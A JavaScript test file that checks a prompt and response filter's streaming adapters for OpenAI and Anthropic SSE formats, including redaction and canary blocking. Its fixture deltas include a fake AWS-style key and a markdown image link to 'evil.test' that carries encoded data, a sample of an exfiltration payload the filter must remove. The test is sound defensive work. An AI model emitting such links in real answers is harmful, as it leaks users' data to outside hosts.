// SSE adapters and responseStream against the built package.
// Run: scripts/build && node --test tests/js/
import { test } from "node:test";
import assert from "node:assert/strict";
import {
  ready,
  PromptFilter,
  openAIChatSSE,
  openAIResponsesSSE,
  anthropicSSE,
} from "../../pkg/node.js";

await ready();

const KEY = "AKIAZ7QWERTYUIOP2345";
const enc = new TextEncoder();

function makeFilter() {
  const f = new PromptFilter({ response: { allowedHosts: ["docs.acme.test"] } });
  const p = f.screenPrompt("mail ana.lopez@example.com please");
  assert.match(p.text, /\[EMAIL_1\]/);
  return f;
}

// Text deltas that split a token, a key, a link and multi-byte chars.
const DELTAS = [
  "Hi! I wrote to [EM",
  "AIL_1] and your key ",
  KEY.slice(0, 9),
  KEY.slice(9) + " is live. ",
  "See ![x](https://evil.test/p.png?d=aGVsbG8gc2VjcmV0IGRhdGE",
  ") and [docs](https://docs.acme.test/a). 日本語",
  "🎉 café done",
];
const FULL = DELTAS.join("");

/** Splits bytes into pieces of `n` (mid-line, mid-UTF-8). */
function split(bytes, n) {
  const out = [];
  for (let i = 0; i < bytes.length; i += n) out.push(bytes.slice(i, i + n));
  return out;
}

async function pipe(ts, chunks) {
  const rs = new ReadableStream({
    start(c) {
      for (const ch of chunks) c.enqueue(ch);
      c.close();
    },
  });
  const reader = rs.pipeThrough(ts).getReader();
  const parts = [];
  for (;;) {
    const { value, done } = await reader.read();
    if (done) break;
    parts.push(value);
  }
  return Buffer.concat(parts.map((p) => Buffer.from(p))).toString("utf8");
}

/** Parses an SSE text into [{event, data}] (LF only, as we emit). */
function events(text) {
  assert.ok(text.endsWith("\n\n"), "ends with a blank line");
  return text
    .split("\n\n")
    .filter((b) => b !== "")
    .map((block) => {
      const ev = { event: undefined, data: undefined };
      for (const l of block.split("\n")) {
        if (l.startsWith("event: ")) ev.event = l.slice(7);
        else if (l.startsWith("data: ")) ev.data = (ev.data === undefined ? "" : ev.data + "\n") + l.slice(6);
      }
      return ev;
    });
}

function chatWire(eol = "\n") {
  const base = { id: "chatcmpl-1", object: "chat.completion.chunk", created: 1700000000, model: "gpt-4o-mini" };
  const ev = (o) => `data: ${JSON.stringify(o)}${eol}${eol}`;
  let s = ev({ ...base, choices: [{ index: 0, delta: { role: "assistant", content: "" }, finish_reason: null }] });
  for (const d of DELTAS) s += ev({ ...base, choices: [{ index: 0, delta: { content: d }, finish_reason: null }] });
  s += ev({ ...base, choices: [{ index: 0, delta: {}, finish_reason: "stop" }] });
  s += `: keep-alive${eol}${eol}`;
  s += ev({ ...base, choices: [], usage: { prompt_tokens: 5, completion_tokens: 20, total_tokens: 25 } });
  s += `data: [DONE]${eol}${eol}`;
  return enc.encode(s);
}

for (const [name, eol] of [["LF", "\n"], ["CRLF", "\r\n"], ["CR", "\r"]]) {
  for (const n of [1, 2, 3, 7, 64, 100000]) {
    test(`openAIChatSSE ${name} split every ${n} bytes`, async () => {
      const f = makeFilter();
      const expected = f.screenResponse(FULL).text;
      assert.ok(expected.includes("ana.lopez@example.com"));
      assert.ok(!expected.includes(KEY));
      const ts = openAIChatSSE(f);
      const out = await pipe(ts, split(chatWire(eol), n));
      assert.ok(!out.includes(KEY), "raw key never leaves");
      assert.ok(!out.includes("evil.test"), "exfil image removed");
      const evs = events(out);
      assert.equal(evs.at(-1).data, "[DONE]");
      let joined = "";
      let sawStop = false;
      let sawUsage = false;
      for (const e of evs.slice(0, -1)) {
        if (e.data === undefined) continue;
        const o = JSON.parse(e.data);
        if (o.usage) sawUsage = true;
        for (const c of o.choices) {
          assert.ok(!sawStop, "no text after the finish chunk");
          if (typeof c.delta.content === "string") joined += c.delta.content;
          if (c.finish_reason === "stop") sawStop = true;
        }
      }
      assert.ok(sawStop && sawUsage);
      assert.equal(joined, expected);
      assert.ok(ts.findings().some((x) => x.kind === "secret"));
    });
  }
}

function responsesWire() {
  let seq = 0;
  const ev = (o) => `event: ${o.type}\ndata: ${JSON.stringify({ ...o, sequence_number: seq++ })}\n\n`;
  const item = { id: "msg_1", type: "message", role: "assistant", status: "completed" };
  let s = ev({ type: "response.created", response: { id: "resp_1", status: "in_progress", output: [] } });
  s += ev({ type: "response.output_item.added", output_index: 0, item: { ...item, status: "in_progress", content: [] } });
  s += ev({ type: "response.content_part.added", item_id: "msg_1", output_index: 0, content_index: 0, part: { type: "output_text", text: "", annotations: [] } });
  for (const d of DELTAS) s += ev({ type: "response.output_text.delta", item_id: "msg_1", output_index: 0, content_index: 0, delta: d });
  s += ev({ type: "response.output_text.done", item_id: "msg_1", output_index: 0, content_index: 0, text: FULL });
  s += ev({ type: "response.content_part.done", item_id: "msg_1", output_index: 0, content_index: 0, part: { type: "output_text", text: FULL, annotations: [] } });
  const done = { ...item, content: [{ type: "output_text", text: FULL, annotations: [] }] };
  s += ev({ type: "response.output_item.done", output_index: 0, item: done });
  s += ev({ type: "response.completed", response: { id: "resp_1", status: "completed", output: [done] } });
  return enc.encode(s);
}

for (const n of [1, 5, 100000]) {
  test(`openAIResponsesSSE split every ${n} bytes`, async () => {
    const f = makeFilter();
    const expected = f.screenResponse(FULL).text;
    const out = await pipe(openAIResponsesSSE(f), split(responsesWire(), n));
    assert.ok(!out.includes(KEY));
    const evs = events(out).map((e) => ({ event: e.event, o: JSON.parse(e.data) }));
    evs.forEach((e, i) => {
      assert.equal(e.o.sequence_number, i, "consecutive sequence numbers");
      assert.equal(e.event, e.o.type);
    });
    const deltas = evs.filter((e) => e.o.type === "response.output_text.delta");
    assert.equal(deltas.map((e) => e.o.delta).join(""), expected);
    const doneAt = evs.findIndex((e) => e.o.type === "response.output_text.done");
    assert.ok(evs.slice(doneAt).every((e) => e.o.type !== "response.output_text.delta"));
    assert.equal(evs[doneAt].o.text, expected);
    const last = evs.at(-1).o;
    assert.equal(last.type, "response.completed");
    assert.equal(last.response.output[0].content[0].text, expected);
  });
}

function anthropicWire() {
  const ev = (o) => `event: ${o.type}\ndata: ${JSON.stringify(o)}\n\n`;
  let s = ev({ type: "message_start", message: { id: "msg_1", type: "message", role: "assistant", content: [], model: "claude-x", stop_reason: null, usage: { input_tokens: 10, output_tokens: 1 } } });
  s += ev({ type: "content_block_start", index: 0, content_block: { type: "thinking", thinking: "" } });
  s += ev({ type: "content_block_delta", index: 0, delta: { type: "thinking_delta", thinking: "Let me think." } });
  s += ev({ type: "content_block_stop", index: 0 });
  s += ev({ type: "content_block_start", index: 1, content_block: { type: "text", text: "" } });
  s += ev({ type: "ping" });
  for (const d of DELTAS) s += ev({ type: "content_block_delta", index: 1, delta: { type: "text_delta", text: d } });
  s += ev({ type: "content_block_stop", index: 1 });
  s += ev({ type: "message_delta", delta: { stop_reason: "end_turn", stop_sequence: null }, usage: { output_tokens: 30 } });
  s += ev({ type: "message_stop" });
  return enc.encode(s);
}

for (const n of [1, 4, 100000]) {
  test(`anthropicSSE split every ${n} bytes`, async () => {
    const f = makeFilter();
    const expected = f.screenResponse(FULL).text;
    const out = await pipe(anthropicSSE(f), split(anthropicWire(), n));
    assert.ok(!out.includes(KEY));
    const evs = events(out).map((e) => ({ event: e.event, o: JSON.parse(e.data) }));
    assert.deepEqual(
      evs.map((e) => e.o.type).filter((t) => t !== "content_block_delta"),
      ["message_start", "content_block_start", "content_block_stop", "content_block_start", "ping", "content_block_stop", "message_delta", "message_stop"],
    );
    const thinking = evs.find((e) => e.o.delta && e.o.delta.type === "thinking_delta");
    assert.equal(thinking.o.delta.thinking, "Let me think.");
    const stopAt = evs.findIndex((e) => e.o.type === "content_block_stop" && e.o.index === 1);
    const text = evs
      .slice(0, stopAt)
      .filter((e) => e.o.type === "content_block_delta" && e.o.delta.type === "text_delta")
      .map((e) => e.o.delta.text)
      .join("");
    assert.equal(text, expected);
  });
}

test("a canary blocks the stream: text before it, then [blocked]", async () => {
  const f = makeFilter();
  const c = f.canary();
  const deltas = ["Sure, here ", "it is: ", c.slice(0, 12), c.slice(12), " and more text"];
  const ev = (o) => `event: ${o.type}\ndata: ${JSON.stringify(o)}\n\n`;
  let s = ev({ type: "content_block_start", index: 0, content_block: { type: "text", text: "" } });
  for (const d of deltas) s += ev({ type: "content_block_delta", index: 0, delta: { type: "text_delta", text: d } });
  s += ev({ type: "content_block_stop", index: 0 }) + ev({ type: "message_stop" });
  const ts = anthropicSSE(f);
  const out = await pipe(ts, split(enc.encode(s), 7));
  const text = events(out)
    .map((e) => JSON.parse(e.data))
    .filter((o) => o.type === "content_block_delta")
    .map((o) => o.delta.text)
    .join("");
  assert.equal(text, "Sure, here it is: [blocked]");
  assert.ok(ts.findings().some((x) => x.kind === "canary" && x.action === "block"));
});

test("non-JSON data and unknown events pass through", async () => {
  const f = makeFilter();
  const wire = "event: weird\ndata: not json\nid: 7\n\n: comment\n\ndata: [DONE]\n\n";
  const out = await pipe(openAIChatSSE(f), [enc.encode(wire)]);
  assert.equal(out, "id: 7\nevent: weird\ndata: not json\n\n: comment\n\ndata: [DONE]\n\n");
});

test("responseStream (Web TransformStream<string,string>) equals screenResponse", async () => {
  const f = makeFilter();
  const expected = f.screenResponse(FULL).text;
  // split between the two halves of a surrogate pair, too
  const units = [...FULL.split("")];
  const chunks = [];
  for (let i = 0; i < units.length; i += 3) chunks.push(units.slice(i, i + 3).join(""));
  const rs = new ReadableStream({
    start(c) {
      for (const ch of chunks) c.enqueue(ch);
      c.close();
    },
  });
  let got = "";
  const reader = rs.pipeThrough(f.responseStream()).getReader();
  for (;;) {
    const { value, done } = await reader.read();
    if (done) break;
    got += value;
  }
  assert.equal(got, expected);
});

test("scanner findings use UTF-16 offsets of the joined input", () => {
  const f = makeFilter();
  const s = f.responseScanner();
  const input = "🎉🎉 mail carl.z@corp-mail.test now 😀 done";
  let out = "";
  for (const ch of input.split("")) out += s.push(ch);
  out += s.finish();
  assert.equal(out, f.screenResponse(input).text);
  const email = s.findings.find((x) => x.type === "EMAIL");
  assert.equal(input.slice(email.start, email.end), "carl.z@corp-mail.test");
  assert.equal(s.push("more"), "");
  assert.equal(s.finish(), "");
});
